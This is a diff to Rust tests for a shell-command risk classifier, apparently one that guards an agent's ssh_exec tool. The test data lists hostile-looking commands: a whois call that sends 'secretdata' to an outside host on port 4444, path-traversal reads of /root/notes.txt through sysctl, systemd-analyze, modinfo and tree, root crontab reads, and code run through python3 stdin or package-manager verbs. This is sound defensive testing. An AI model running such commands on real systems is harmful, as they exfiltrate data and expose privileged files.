@@ -63,6 +63,23 @@ const RAISED: &[(&str, RiskLevel)] = &[
     ("git -C /srv/app log --oneline -n 5", RiskLevel::Medium),
     ("whois -h 203.0.113.9 -p 4444 secretdata", RiskLevel::Medium),
     ("nslookup", RiskLevel::Medium),
+    // Files the contained user's modes keep from it, printed by their own programs.
+    ("crontab -l", RiskLevel::High),
+    ("crontab -l -u root", RiskLevel::High),
+    ("networkctl cat wg0", RiskLevel::High),
+    ("networkctl --no-pager cat wg0.netdev", RiskLevel::High),
+    // Names the program joins to a directory, climbing out of it to a hidden place.
+    (
+        "systemd-analyze cat-config ../root/notes.txt",
+        RiskLevel::High,
+    ),
+    ("sysctl kernel/../../../root/notes.txt", RiskLevel::High),
+    ("tree --fromfile /root/notes.txt", RiskLevel::High),
+    ("modinfo -k ../../../root/x ext4", RiskLevel::High),
+    // Code run from the input or by a package manager's verb, with the user's rights.
+    ("echo 'import os' | python3 -v", RiskLevel::High),
+    ("env -C /srv/app npm version patch", RiskLevel::High),
+    ("cargo check", RiskLevel::High),
 ];
 
 #[test]
@@ -114,6 +131,9 @@ fn ssh_exec_reads_of_ordinary_places_stay_low() {
         "ps aux | grep nginx",
         "dig example.com",
         "jq .environment /srv/app/status.json",
+        "networkctl status",
+        "systemd-analyze cat-config systemd/journald.conf",
+        "sysctl vm.swappiness",
     ] {
         assert_eq!(level(&policy, "ssh_exec", line), RiskLevel::Low, "{line}");
     }
